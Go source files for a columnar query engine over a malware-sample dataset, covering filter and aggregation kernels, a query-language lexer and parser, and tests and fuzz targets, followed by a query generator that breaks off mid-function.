	if p.q.Filter == nil {
		sel.SetAll()
	} else {
		p.eval(p.q.Filter, sel)
	}
	res := &Result{Matched: sel.Count(), Agg: p.q.Agg.Fn, By: p.q.Agg.By}
	res.Rows = p.aggregate(p.q.Agg, sel)
	return res
}

// eval computes e's selection into out (sized for the batch).
func (p *Plan) eval(e Expr, out *Bitmap) {
	switch e := e.(type) {
	case *Cmp:
		p.evalCmp(e, out)
	case *In:
		p.evalIn(e, out)
	case *Not:
		p.eval(e.X, out)
		out.Not()
	case *Logic:
		p.eval(e.X, out)
		rhs := NewBitmap(p.b.NumRows)
		p.eval(e.Y, rhs)
		if e.Op == "and" {
			out.And(rhs)
		} else {
			out.Or(rhs)
		}
	}
}

func (p *Plan) evalCmp(e *Cmp, out *Bitmap) {
	switch sampleSchema[e.Field] {
	case kindDict:
		col := p.dictCol(e.Field)
		id, ok := col.Dict.Lookup(e.Str)
		if !ok {
			out.Clear() // unknown value: matches nothing
		} else {
			eqU32(col.IDs, id, out)
		}
		if e.Op == "!=" {
			out.Not()
		}
	case kindList:
		col := p.listCol(e.Field)
		id, ok := col.Dict.Lookup(e.Str)
		if !ok {
			out.Clear()
		} else {
			listAnyEq(col, id, out)
		}
		if e.Op == "!=" {
			out.Not()
		}
	default:
		vals := p.intCol(e.Field)
		const maxI64 = int64(^uint64(0) >> 1)
		switch e.Op {
		case "==":
			rangeI64(vals, e.Int, e.Int, out)
		case "!=":
			rangeI64(vals, e.Int, e.Int, out)
			out.Not()
		case "<":
			// Literals are non-negative (the lexer has no unary
			// minus), so e.Int-1 cannot underflow.
			rangeI64(vals, -maxI64-1, e.Int-1, out)
		case "<=":
			rangeI64(vals, -maxI64-1, e.Int, out)
		case ">":
			if e.Int == maxI64 {
				out.Clear()
			} else {
				rangeI64(vals, e.Int+1, maxI64, out)
			}
		case ">=":
			rangeI64(vals, e.Int, maxI64, out)
		}
	}
}

func (p *Plan) evalIn(e *In, out *Bitmap) {
	switch sampleSchema[e.Field] {
	case kindDict:
		col := p.dictCol(e.Field)
		inU32(col.IDs, memberSet(col.Dict, e.Strs), out)
	case kindList:
		col := p.listCol(e.Field)
		listAnyIn(col, memberSet(col.Dict, e.Strs), out)
	default:
		vals := p.intCol(e.Field)
		if e.IsRange {
			rangeI64(vals, e.Lo, e.Hi, out)
		} else {
			inI64(vals, e.Ints, out)
		}
	}
}

// memberSet compiles string literals into a vocabulary-sized
// membership table; unknown literals simply mark nothing.
func memberSet(d *Dict, vals []string) []bool {
	member := make([]bool, len(d.Vals))
	for _, v := range vals {
		if id, ok := d.Lookup(v); ok {
			member[id] = true
		}
	}
	return member
}

func (p *Plan) dictCol(field string) DictCol {
	if field == "family" {
		return p.b.Family
	}
	return p.b.Disposition
}

func (p *Plan) listCol(field string) ListDictCol {
	if field == "c2" {
		return p.b.C2
	}
	return p.b.Attack
}

func (p *Plan) intCol(field string) []int64 {
	switch field {
	case "day":
		return p.b.Day
	case "retries":
		return p.b.Retries
	}
	return p.b.Detections
}

func (p *Plan) aggregate(a Agg, sel *Bitmap) []ResultRow {
	if a.By == "" {
		switch a.Fn {
		case "sum":
			return []ResultRow{{Value: sumI64(p.intCol(a.Arg), sel)}}
		default: // count
			return []ResultRow{{Value: sel.Count()}}
		}
	}
	var dict *Dict
	var acc []int64
	byList := sampleSchema[a.By] == kindList
	switch {
	case a.Fn == "sum" && byList:
		col := p.listCol(a.By)
		dict, acc = col.Dict, sumByList(p.intCol(a.Arg), col, sel)
	case a.Fn == "sum":
		col := p.dictCol(a.By)
		dict, acc = col.Dict, sumByDict(p.intCol(a.Arg), col, sel)
	case byList:
		col := p.listCol(a.By)
		dict, acc = col.Dict, countByList(col, sel)
	default:
		col := p.dictCol(a.By)
		dict, acc = col.Dict, countByDict(col, sel)
	}
	// Sums can legitimately be zero for a selected group, so group
	// presence (for sum) is tracked by count, not by the sum value.
	var present []int64
	if a.Fn == "sum" {
		if byList {
			present = countByList(p.listCol(a.By), sel)
		} else {
			present = countByDict(p.dictCol(a.By), sel)
		}
	} else {
		present = acc
	}
	rows := make([]ResultRow, 0, len(acc))
	for id, n := range present {
		if n > 0 {
			rows = append(rows, ResultRow{Key: dict.Vals[id], Value: acc[id]})
		}
	}
	return finishGroups(rows, a)
}

// finishGroups orders (and for topk, truncates) group rows: count
// and sum sort by key; topk sorts by value descending with key
// ascending as the deterministic tiebreak.
func finishGroups(rows []ResultRow, a Agg) []ResultRow {
	if a.Fn == "topk" {
		sort.Slice(rows, func(i, j int) bool {
			if rows[i].Value != rows[j].Value {
				return rows[i].Value > rows[j].Value
			}
			return rows[i].Key < rows[j].Key
		})
		if int64(len(rows)) > a.K {
			rows = rows[:a.K]
		}
		return rows
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].Key < rows[j].Key })
	return rows
}
