package colstore

// Filter kernels: each scans one column and writes a selection
// bitmap, building each output word from 64 rows before touching
// memory — the compare loop stays in registers and the bitmap write
// is one store per 64 rows. Combining predicates is then word-wise
// And/Or/Not on the bitmaps (bitmap.go).

// eqU32 selects rows where ids[i] == want.
func eqU32(ids []uint32, want uint32, out *Bitmap) {
	n := len(ids)
	for wi := range out.words {
		base := wi << 6
		end := n - base
		if end > 64 {
			end = 64
		}
		var w uint64
		for j := 0; j < end; j++ {
			if ids[base+j] == want {
				w |= 1 << uint(j)
			}
		}
		out.words[wi] = w
	}
}

// inU32 selects rows whose ID is marked in member, a dense
// vocabulary-sized membership table (the compiled form of `in (...)`
// over a dictionary column).
func inU32(ids []uint32, member []bool, out *Bitmap) {
	n := len(ids)
	for wi := range out.words {
		base := wi << 6
		end := n - base
		if end > 64 {
			end = 64
		}
		var w uint64
		for j := 0; j < end; j++ {
			if member[ids[base+j]] {
				w |= 1 << uint(j)
			}
		}
		out.words[wi] = w
	}
}

// rangeI64 selects rows with lo <= vals[i] <= hi.
func rangeI64(vals []int64, lo, hi int64, out *Bitmap) {
	n := len(vals)
	for wi := range out.words {
		base := wi << 6
		end := n - base
		if end > 64 {
			end = 64
		}
		var w uint64
		for j := 0; j < end; j++ {
			if v := vals[base+j]; v >= lo && v <= hi {
				w |= 1 << uint(j)
			}
		}
		out.words[wi] = w
	}
}

// inI64 selects rows whose value appears in want (the `in (...)`
// list form over a flat column; the lists are query-sized, a handful
// of literals).
func inI64(vals []int64, want []int64, out *Bitmap) {
	n := len(vals)
	for wi := range out.words {
		base := wi << 6
		end := n - base
		if end > 64 {
			end = 64
		}
		var w uint64
		for j := 0; j < end; j++ {
			v := vals[base+j]
			for _, x := range want {
				if v == x {
					w |= 1 << uint(j)
					break
				}
			}
		}
		out.words[wi] = w
	}
}

// listAnyEq selects rows where any list element equals want.
func listAnyEq(col ListDictCol, want uint32, out *Bitmap) {
	out.Clear()
	for i := 0; i < len(col.Offs)-1; i++ {
		for _, id := range col.IDs[col.Offs[i]:col.Offs[i+1]] {
			if id == want {
				out.Set(i)
				break
			}
		}
	}
}

// listAnyIn selects rows where any list element is marked in member.
func listAnyIn(col ListDictCol, member []bool, out *Bitmap) {
	out.Clear()
	for i := 0; i < len(col.Offs)-1; i++ {
		for _, id := range col.IDs[col.Offs[i]:col.Offs[i+1]] {
			if member[id] {
				out.Set(i)
				break
			}
		}
	}
}

// Aggregate kernels: one pass over the selected rows into a
// vocabulary-sized accumulator, indexed by dict ID — no hashing on
// the hot path.

// countByDict counts selected rows per dictionary value.
func countByDict(col DictCol, sel *Bitmap) []int64 {
	counts := make([]int64, len(col.Dict.Vals))
	ids := col.IDs
	sel.ForEach(func(i int) { counts[ids[i]]++ })
	return counts
}

// countByList counts, per dictionary value, the selected rows whose
// list contains it. Lists are deduplicated at encode time, so each
// (row, value) pair contributes once — the inverted-index rule.
func countByList(col ListDictCol, sel *Bitmap) []int64 {
	counts := make([]int64, len(col.Dict.Vals))
	sel.ForEach(func(i int) {
		for _, id := range col.IDs[col.Offs[i]:col.Offs[i+1]] {
			counts[id]++
		}
	})
	return counts
}

// sumI64 totals vals over the selected rows.
func sumI64(vals []int64, sel *Bitmap) int64 {
	var sum int64
	sel.ForEach(func(i int) { sum += vals[i] })
	return sum
}

// sumByDict totals vals per dictionary value of the group column.
func sumByDict(vals []int64, group DictCol, sel *Bitmap) []int64 {
	sums := make([]int64, len(group.Dict.Vals))
	ids := group.IDs
	sel.ForEach(func(i int) { sums[ids[i]] += vals[i] })
	return sums
}

// sumByList totals vals per dictionary value across list membership:
// a row's value is credited to every distinct list element.
func sumByList(vals []int64, group ListDictCol, sel *Bitmap) []int64 {
	sums := make([]int64, len(group.Dict.Vals))
	sel.ForEach(func(i int) {
		for _, id := range group.IDs[group.Offs[i]:group.Offs[i+1]] {
			sums[id] += vals[i]
		}
	})
	return sums
}
