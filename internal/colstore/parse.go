package colstore

import (
	"fmt"
	"strconv"
)

// The /v1/query expression language. A query is an optional filter,
// then an optional aggregation after '|':
//
//	query  = [ orExpr ] [ "|" agg ]
//	orExpr = andExpr { "or" andExpr }
//	andExpr= unary { "and" unary }
//	unary  = "not" unary | "(" orExpr ")" | cmp
//	cmp    = field ( "==" | "!=" | "<" | "<=" | ">" | ">=" ) value
//	       | field "in" ( INT ".." INT | "(" value { "," value } ")" )
//	agg    = "count" "(" ")" [ "by" field ]
//	       | "sum" "(" field ")" [ "by" field ]
//	       | "topk" "(" INT ")" "by" field
//	value  = STRING | INT
//
// Omitting the filter selects every row; omitting the aggregation
// means count(). So the empty query is "how many samples", and
//
//	family=="mirai" and day in 100..200 | count() by c2
//
// is the paper's "alive mirai C2s mid-study" shape. Parse is syntax
// only; field names and types are checked by Validate against the
// sample schema, so both the columnar engine and the row-store
// reference evaluator reject exactly the same queries with exactly
// the same messages.

// ParseError is a syntax or validation failure, safe to surface in a
// 400 body: Pos is the byte offset into the query string.
type ParseError struct {
	Pos int
	Msg string
}

func (e *ParseError) Error() string { return fmt.Sprintf("pos %d: %s", e.Pos, e.Msg) }

func errf(pos int, format string, args ...any) *ParseError {
	return &ParseError{Pos: pos, Msg: fmt.Sprintf(format, args...)}
}

// Expr is a filter node: *Cmp, *In, *Not, or *Logic.
type Expr interface{ exprNode() }

// Cmp is field OP value. Str holds string literals (IsStr), Int
// integer ones.
type Cmp struct {
	Field string
	Op    string // == != < <= > >=
	Str   string
	Int   int64
	IsStr bool
	pos   int
}

// In is field in 100..200 (IsRange) or field in (v1, v2, ...).
type In struct {
	Field   string
	IsRange bool
	Lo, Hi  int64
	Strs    []string
	Ints    []int64
	isStr   bool
	pos     int
}

// Not negates its operand.
type Not struct{ X Expr }

// Logic is X and/or Y.
type Logic struct {
	Op   string // and, or
	X, Y Expr
}

func (*Cmp) exprNode()   {}
func (*In) exprNode()    {}
func (*Not) exprNode()   {}
func (*Logic) exprNode() {}

// Agg is the aggregation stage. Fn is count, sum, or topk; Arg is
// sum's field; K is topk's cutoff; By is the group field ("" for a
// scalar count/sum).
type Agg struct {
	Fn  string
	Arg string
	K   int64
	By  string
	pos int
}

// Query is a parsed /v1/query expression.
type Query struct {
	Filter Expr // nil selects every row
	Agg    Agg  // Fn "count", By "" when the stage was omitted
}

// token kinds
const (
	tEOF = iota
	tIdent
	tInt
	tString
	tOp     // == != < <= > >=
	tLParen // (
	tRParen // )
	tComma
	tPipe
	tDotDot
)

type token struct {
	kind int
	pos  int
	text string // ident name, op text, decoded string, or int digits
	num  int64
}

type lexer struct {
	src  string
	pos  int
	toks []token
}

func lex(src string) ([]token, *ParseError) {
	l := &lexer{src: src}
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r':
			l.pos++
		case c >= '0' && c <= '9':
			start := l.pos
			for l.pos < len(l.src) && l.src[l.pos] >= '0' && l.src[l.pos] <= '9' {
				l.pos++
			}
			digits := l.src[start:l.pos]
			n, err := strconv.ParseInt(digits, 10, 64)
			if err != nil {
				return nil, errf(start, "integer %q out of range", digits)
			}
			l.toks = append(l.toks, token{kind: tInt, pos: start, text: digits, num: n})
		case c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
			start := l.pos
			for l.pos < len(l.src) && isIdentByte(l.src[l.pos]) {
				l.pos++
			}
			l.toks = append(l.toks, token{kind: tIdent, pos: start, text: l.src[start:l.pos]})
		case c == '"':
			start := l.pos
			l.pos++
			for l.pos < len(l.src) && l.src[l.pos] != '"' {
				l.pos++
			}
			if l.pos >= len(l.src) {
				return nil, errf(start, "unterminated string literal")
			}
			l.toks = append(l.toks, token{kind: tString, pos: start, text: l.src[start+1 : l.pos]})
			l.pos++
		case c == '=':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '=' {
				l.toks = append(l.toks, token{kind: tOp, pos: l.pos, text: "=="})
				l.pos += 2
			} else {
				return nil, errf(l.pos, "unexpected %q (did you mean ==?)", "=")
			}
		case c == '!':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '=' {
				l.toks = append(l.toks, token{kind: tOp, pos: l.pos, text: "!="})
				l.pos += 2
			} else {
				return nil, errf(l.pos, "unexpected %q (did you mean !=?)", "!")
			}
		case c == '<' || c == '>':
			op := string(c)
			l.pos++
			if l.pos < len(l.src) && l.src[l.pos] == '=' {
				op += "="
				l.pos++
			}
			l.toks = append(l.toks, token{kind: tOp, pos: l.pos - len(op), text: op})
		case c == '.':
			if l.pos+1 < len(l.src) && l.src[l.pos+1] == '.' {
				l.toks = append(l.toks, token{kind: tDotDot, pos: l.pos, text: ".."})
				l.pos += 2
			} else {
				return nil, errf(l.pos, "unexpected %q (ranges are written lo..hi)", ".")
			}
		case c == '(':
			l.toks = append(l.toks, token{kind: tLParen, pos: l.pos, text: "("})
			l.pos++
		case c == ')':
			l.toks = append(l.toks, token{kind: tRParen, pos: l.pos, text: ")"})
			l.pos++
		case c == ',':
			l.toks = append(l.toks, token{kind: tComma, pos: l.pos, text: ","})
			l.pos++
		case c == '|':
			l.toks = append(l.toks, token{kind: tPipe, pos: l.pos, text: "|"})
			l.pos++
		default:
			return nil, errf(l.pos, "unexpected character %q", string(c))
		}
	}
	l.toks = append(l.toks, token{kind: tEOF, pos: len(l.src)})
	return l.toks, nil
}

func isIdentByte(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}

type parser struct {
	toks []token
	i    int
}

func (p *parser) cur() token  { return p.toks[p.i] }
func (p *parser) next() token { t := p.toks[p.i]; p.i++; return t }

func (p *parser) expect(kind int, what string) (token, *ParseError) {
	if t := p.cur(); t.kind != kind {
		return token{}, errf(t.pos, "expected %s, got %s", what, describe(t))
	}
	return p.next(), nil
}

func describe(t token) string {
	switch t.kind {
	case tEOF:
		return "end of query"
	case tString:
		return fmt.Sprintf("string %q", t.text)
	case tInt:
		return fmt.Sprintf("integer %s", t.text)
	default:
		return fmt.Sprintf("%q", t.text)
	}
}

// Parse turns a query string into its AST. It never panics on any
// input (FuzzQueryParse); errors are *ParseError with a byte offset.
func Parse(src string) (*Query, error) {
	toks, lerr := lex(src)
	if lerr != nil {
		return nil, lerr
	}
	p := &parser{toks: toks}
	q := &Query{Agg: Agg{Fn: "count"}}

	if p.cur().kind != tEOF && p.cur().kind != tPipe {
		e, err := p.parseOr()
		if err != nil {
			return nil, err
		}
		q.Filter = e
	}
	if p.cur().kind == tPipe {
		p.next()
		agg, err := p.parseAgg()
		if err != nil {
			return nil, err
		}
		q.Agg = agg
	}
	if t := p.cur(); t.kind != tEOF {
		return nil, errf(t.pos, "unexpected %s after complete query", describe(t))
	}
	return q, nil
}

func (p *parser) parseOr() (Expr, *ParseError) {
	x, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.cur().kind == tIdent && p.cur().text == "or" {
		p.next()
		y, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		x = &Logic{Op: "or", X: x, Y: y}
	}
	return x, nil
}

func (p *parser) parseAnd() (Expr, *ParseError) {
	x, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for p.cur().kind == tIdent && p.cur().text == "and" {
		p.next()
		y, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		x = &Logic{Op: "and", X: x, Y: y}
	}
	return x, nil
}

func (p *parser) parseUnary() (Expr, *ParseError) {
	switch t := p.cur(); {
	case t.kind == tIdent && t.text == "not":
		p.next()
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return &Not{X: x}, nil
	case t.kind == tLParen:
		p.next()
		x, err := p.parseOr()
		if err != nil {
			return nil, err
		}
		if _, err := p.expect(tRParen, `")"`); err != nil {
			return nil, err
		}
		return x, nil
	default:
		return p.parseCmp()
	}
}

// reserved words can't be field names; catching them here keeps the
// error at the right spot ("expected a field name, got "by"").
var reserved = map[string]bool{
	"and": true, "or": true, "not": true, "in": true, "by": true,
	"count": true, "sum": true, "topk": true,
}

func (p *parser) parseField() (token, *ParseError) {
	t, err := p.expect(tIdent, "a field name")
	if err != nil {
		return token{}, err
	}
	if reserved[t.text] {
		return token{}, errf(t.pos, "expected a field name, got reserved word %q", t.text)
	}
	return t, nil
}

func (p *parser) parseCmp() (Expr, *ParseError) {
	f, err := p.parseField()
	if err != nil {
		return nil, err
	}
	switch t := p.cur(); {
	case t.kind == tOp:
		p.next()
		v := p.next()
		switch v.kind {
		case tString:
			return &Cmp{Field: f.text, Op: t.text, Str: v.text, IsStr: true, pos: f.pos}, nil
		case tInt:
			return &Cmp{Field: f.text, Op: t.text, Int: v.num, pos: f.pos}, nil
		default:
			return nil, errf(v.pos, "expected a string or integer literal, got %s", describe(v))
		}
	case t.kind == tIdent && t.text == "in":
		p.next()
		return p.parseIn(f)
	default:
		return nil, errf(t.pos, "expected a comparison operator or \"in\" after field %q, got %s", f.text, describe(t))
	}
}

func (p *parser) parseIn(f token) (Expr, *ParseError) {
	switch t := p.cur(); t.kind {
	case tInt:
		lo := p.next()
		if _, err := p.expect(tDotDot, `".."`); err != nil {
			return nil, err
		}
		hi, err := p.expect(tInt, "the range's upper bound")
		if err != nil {
			return nil, err
		}
		if hi.num < lo.num {
			return nil, errf(lo.pos, "empty range %d..%d (lower bound exceeds upper)", lo.num, hi.num)
		}
		return &In{Field: f.text, IsRange: true, Lo: lo.num, Hi: hi.num, pos: f.pos}, nil
	case tLParen:
		p.next()
		in := &In{Field: f.text, pos: f.pos}
		for {
			v := p.next()
			switch v.kind {
			case tString:
				if len(in.Ints) > 0 {
					return nil, errf(v.pos, "mixed string and integer literals in one list")
				}
				in.Strs = append(in.Strs, v.text)
				in.isStr = true
			case tInt:
				if len(in.Strs) > 0 {
					return nil, errf(v.pos, "mixed string and integer literals in one list")
				}
				in.Ints = append(in.Ints, v.num)
			default:
				return nil, errf(v.pos, "expected a string or integer literal, got %s", describe(v))
			}
			if p.cur().kind == tComma {
				p.next()
				continue
			}
			break
		}
		if _, err := p.expect(tRParen, `")"`); err != nil {
			return nil, err
		}
		return in, nil
	default:
		return nil, errf(t.pos, "expected a lo..hi range or a (v1, v2, ...) list after \"in\", got %s", describe(t))
	}
}

func (p *parser) parseAgg() (Agg, *ParseError) {
	t, err := p.expect(tIdent, `an aggregation (count, sum, or topk)`)
	if err != nil {
		return Agg{}, err
	}
	agg := Agg{Fn: t.text, pos: t.pos}
	switch t.text {
	case "count":
		if _, err := p.expect(tLParen, `"("`); err != nil {
			return Agg{}, err
		}
		if _, err := p.expect(tRParen, `")"`); err != nil {
			return Agg{}, err
		}
	case "sum":
		if _, err := p.expect(tLParen, `"("`); err != nil {
			return Agg{}, err
		}
		arg, err := p.parseField()
		if err != nil {
			return Agg{}, err
		}
		agg.Arg = arg.text
		if _, err := p.expect(tRParen, `")"`); err != nil {
			return Agg{}, err
		}
	case "topk":
		if _, err := p.expect(tLParen, `"("`); err != nil {
			return Agg{}, err
		}
		k, err := p.expect(tInt, "topk's group count")
		if err != nil {
			return Agg{}, err
		}
		agg.K = k.num
		if _, err := p.expect(tRParen, `")"`); err != nil {
			return Agg{}, err
		}
	default:
		return Agg{}, errf(t.pos, "unknown aggregation %q (want count, sum, or topk)", t.text)
	}
	if p.cur().kind == tIdent && p.cur().text == "by" {
		p.next()
		by, err := p.parseField()
		if err != nil {
			return Agg{}, err
		}
		agg.By = by.text
	} else if agg.Fn == "topk" {
		return Agg{}, errf(p.cur().pos, `topk needs a "by" group field`)
	}
	return agg, nil
}
