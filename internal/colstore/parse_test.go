package colstore

import (
	"strings"
	"testing"
)

// TestParseValid walks the grammar: every query here must parse and
// validate, and the parsed shape must match the spot checks.
func TestParseValid(t *testing.T) {
	for _, src := range []string{
		"",
		"| count()",
		"| count() by family",
		"| topk(5) by c2",
		"| sum(detections)",
		"| sum(retries) by disposition",
		`family=="mirai"`,
		`family != "gafgyt"`,
		`family in ("mirai", "gafgyt", "tsunami")`,
		"day in 100..200",
		"day in 7..7",
		"day <= 100 and detections > 3",
		"retries in (0, 1, 2)",
		`c2=="10.0.0.1:23" or attack=="UDP Flood"`,
		`not family=="mirai" and not (day < 10 or day > 300)`,
		`family=="mirai" and day in 100..200 | count() by c2`,
		`disposition=="alive" | topk(3) by attack`,
		`  family  ==  "mirai"  |  count ( )  by  family  `,
	} {
		q, err := Parse(src)
		if err != nil {
			t.Fatalf("Parse(%q): %v", src, err)
		}
		if err := q.Validate(); err != nil {
			t.Fatalf("Validate(%q): %v", src, err)
		}
	}

	q, err := Parse(`family=="mirai" and day in 100..200 | count() by c2`)
	if err != nil {
		t.Fatal(err)
	}
	land, ok := q.Filter.(*Logic)
	if !ok || land.Op != "and" {
		t.Fatalf("top filter node = %#v, want and", q.Filter)
	}
	if cmp, ok := land.X.(*Cmp); !ok || cmp.Field != "family" || cmp.Op != "==" || cmp.Str != "mirai" {
		t.Fatalf("left operand = %#v", land.X)
	}
	if in, ok := land.Y.(*In); !ok || !in.IsRange || in.Lo != 100 || in.Hi != 200 {
		t.Fatalf("right operand = %#v", land.Y)
	}
	if q.Agg.Fn != "count" || q.Agg.By != "c2" {
		t.Fatalf("agg = %+v", q.Agg)
	}

	// Omitted stages default to all-rows count().
	q, err = Parse("")
	if err != nil {
		t.Fatal(err)
	}
	if q.Filter != nil || q.Agg.Fn != "count" || q.Agg.By != "" {
		t.Fatalf("empty query = %#v %+v", q.Filter, q.Agg)
	}
}

// TestParseErrors pins the parser's and validator's error messages:
// these are client-visible 400 bodies, so changes are deliberate.
func TestParseErrors(t *testing.T) {
	for _, tc := range []struct {
		src  string
		want string
	}{
		// lexer
		{`family = "mirai"`, `pos 7: unexpected "=" (did you mean ==?)`},
		{`family ! "mirai"`, `pos 7: unexpected "!" (did you mean !=?)`},
		{`family=="mirai`, `pos 8: unterminated string literal`},
		{`day in 1.5`, `pos 8: unexpected "." (ranges are written lo..hi)`},
		{`day == 99999999999999999999`, `pos 7: integer "99999999999999999999" out of range`},
		{`family=="mirai" ; | count()`, `pos 16: unexpected character ";"`},
		// parser
		{`family==`, `pos 8: expected a string or integer literal, got end of query`},
		{`family`, `pos 6: expected a comparison operator or "in" after field "family", got end of query`},
		{`day in`, `pos 6: expected a lo..hi range or a (v1, v2, ...) list after "in", got end of query`},
		{`day in 100..`, `pos 12: expected the range's upper bound, got end of query`},
		{`day in 200..100`, `pos 7: empty range 200..100 (lower bound exceeds upper)`},
		{`family in ("mirai", 3)`, `pos 20: mixed string and integer literals in one list`},
		{`family in ("mirai"`, `pos 18: expected ")", got end of query`},
		{`(family=="mirai"`, `pos 16: expected ")", got end of query`},
		{`by=="x"`, `pos 0: expected a field name, got reserved word "by"`},
		{`| frobnicate()`, `pos 2: unknown aggregation "frobnicate" (want count, sum, or topk)`},
		{`| count 5`, `pos 8: expected "(", got integer 5`},
		{`| topk(5)`, `pos 9: topk needs a "by" group field`},
		{`| count() by`, `pos 12: expected a field name, got end of query`},
		{`family=="mirai" family=="gafgyt"`, `pos 16: unexpected "family" after complete query`},
		{`| count() extra`, `pos 10: unexpected "extra" after complete query`},
	} {
		_, err := Parse(tc.src)
		if err == nil {
			t.Fatalf("Parse(%q) succeeded, want error %q", tc.src, tc.want)
		}
		if err.Error() != tc.want {
			t.Fatalf("Parse(%q) error:\n got %q\nwant %q", tc.src, err.Error(), tc.want)
		}
	}
}

// TestValidateErrors pins the type checker's messages the same way.
func TestValidateErrors(t *testing.T) {
	for _, tc := range []struct {
		src  string
		want string
	}{
		{`frobnicate=="x"`, `pos 0: unknown field "frobnicate" (known: attack, c2, day, detections, disposition, family, retries)`},
		{`family==3`, `pos 0: field "family" holds strings; compare it to a quoted literal`},
		{`day=="tuesday"`, `pos 0: field "day" holds integers; compare it to a number`},
		{`family < "mirai"`, `pos 0: ordering operator "<" needs an integer field, and "family" holds strings`},
		{`family in 1..3`, `pos 0: range lo..hi needs an integer field, and "family" holds strings`},
		{`day in ("a", "b")`, `pos 0: field "day" holds integers; list numbers`},
		{`family in (1, 2)`, `pos 0: field "family" holds strings; list quoted literals`},
		{`not (day in 1..2 and family==3)`, `pos 21: field "family" holds strings; compare it to a quoted literal`},
		{`| sum(family)`, `pos 2: sum needs an integer field, and "family" holds strings`},
		{`| sum(bogus)`, `pos 2: unknown field "bogus" (known: attack, c2, day, detections, disposition, family, retries)`},
		{`| count() by day`, `pos 2: group by needs a dictionary field (family, disposition, c2, attack), and "day" holds integers`},
		{`| count() by bogus`, `pos 2: unknown group field "bogus" (known: attack, c2, day, detections, disposition, family, retries)`},
		{`| topk(0) by family`, `pos 2: topk group count must be in 1..1000, got 0`},
		{`| topk(5000) by family`, `pos 2: topk group count must be in 1..1000, got 5000`},
	} {
		q, err := Parse(tc.src)
		if err != nil {
			t.Fatalf("Parse(%q): unexpected syntax error %v", tc.src, err)
		}
		verr := q.Validate()
		if verr == nil {
			t.Fatalf("Validate(%q) succeeded, want error %q", tc.src, tc.want)
		}
		if verr.Error() != tc.want {
			t.Fatalf("Validate(%q) error:\n got %q\nwant %q", tc.src, verr.Error(), tc.want)
		}
	}
}

// FuzzQueryParse is the 4xx-safety contract for the expression
// parser: arbitrary input never panics, never loops, and fails only
// with a position-carrying *ParseError whose message is non-empty —
// exactly what /v1/query turns into a 400 body. Inputs that parse
// must also validate without panicking and, when valid, run against
// an empty batch without panicking.
func FuzzQueryParse(f *testing.F) {
	f.Add("")
	f.Add(`family=="mirai" and day in 100..200 | count() by c2`)
	f.Add(`not (a=="b" or c!=3) | topk(10) by attack`)
	f.Add(`day in (1,2,3) | sum(retries) by disposition`)
	f.Add(`family=="mir`)
	f.Add("| count() by")
	f.Add("((((")
	f.Add("in in in")
	f.Add(`"unbalanced`)
	f.Add("day..5 | | |")
	empty := Encode(nil)
	f.Fuzz(func(t *testing.T, src string) {
		q, err := Parse(src)
		if err != nil {
			pe, ok := err.(*ParseError)
			if !ok {
				t.Fatalf("Parse(%q) returned a %T, want *ParseError", src, err)
			}
			if pe.Msg == "" || pe.Pos < 0 || pe.Pos > len(src) {
				t.Fatalf("Parse(%q) error out of bounds: %+v", src, pe)
			}
			return
		}
		plan, err := empty.Compile(q)
		if err != nil {
			if _, ok := err.(*ParseError); !ok {
				t.Fatalf("Compile(%q) returned a %T, want *ParseError", src, err)
			}
			return
		}
		plan.Run()
	})
}

// TestParseErrorsAre4xxSafe double-checks the property the fuzz
// target asserts on its corpus: messages never echo raw control
// bytes (they go into JSON error bodies as-is).
func TestParseErrorsAre4xxSafe(t *testing.T) {
	_, err := Parse("family==\x01\x02")
	if err == nil {
		t.Fatal("control bytes parsed")
	}
	if msg := err.Error(); strings.ContainsAny(msg, "\x01\x02") {
		t.Fatalf("error message echoes raw control bytes: %q", msg)
	}
}
