package colstore

import (
	"fmt"
	"strconv"
	"strings"

	"malnet/internal/detrand"
)

// QueryGen emits a deterministic stream of syntactically and
// semantically valid query strings, with literals drawn from a
// batch's actual vocabularies (plus a sprinkling of unknown values,
// which are legal and must select nothing). Every choice is a pure
// function of (seed, query index, choice role) via detrand, so the
// differential suite replays the exact same queries on every run and
// at every worker count — no math/rand state to thread.
type QueryGen struct {
	seed int64
	i    int

	fams, disps, c2s, attacks []string
}

// NewQueryGen builds a generator over b's vocabularies.
func NewQueryGen(seed int64, b *Batch) *QueryGen {
	return &QueryGen{
		seed:    seed,
		fams:    b.Vocab("family"),
		disps:   b.Vocab("disposition"),
		c2s:     b.Vocab("c2"),
		attacks: b.Vocab("attack"),
	}
}

// roll draws a uniform int in [0, n) for this query's choice role.
func (g *QueryGen) roll(n int, role string) int {
	return detrand.Intn(g.seed, n, "qgen", strconv.Itoa(g.i), role)
}

// pick draws from vocab, or an unknown literal ~1 time in 8 (and
// always when the vocabulary is empty).
func (g *QueryGen) pick(vocab []string, role string) string {
	if len(vocab) == 0 || g.roll(8, role+"/unknown") == 0 {
		return fmt.Sprintf("no-such-%s-%d", role, g.roll(99, role+"/unk-id"))
	}
	return vocab[g.roll(len(vocab), role)]
}

// Next emits query number i and advances the stream.
func (g *QueryGen) Next() string {
	defer func() { g.i++ }()
	var b strings.Builder

	// 0–3 predicates, joined and/or, occasionally negated.
	nPred := g.roll(4, "npred")
	for p := 0; p < nPred; p++ {
		role := "pred" + strconv.Itoa(p)
		if p > 0 {
			if g.roll(3, role+"/conj") == 0 {
				b.WriteString(" or ")
			} else {
				b.WriteString(" and ")
			}
		}
		if g.roll(6, role+"/not") == 0 {
			b.WriteString("not ")
		}
		b.WriteString(g.pred(role))
	}

	if agg := g.agg(); agg != "" {
		if nPred > 0 {
			b.WriteString(" | ")
		} else {
			b.WriteString("| ")
		}
		b.WriteString(agg)
	}
	return b.String()
}

// pred draws one comparison.
func (g *QueryGen) pred(role string) string {
	switch g.roll(9, role+"/shape") {
	case 0:
		return fmt.Sprintf("family==%q", g.pick(g.fams, role+"/family"))
	case 1:
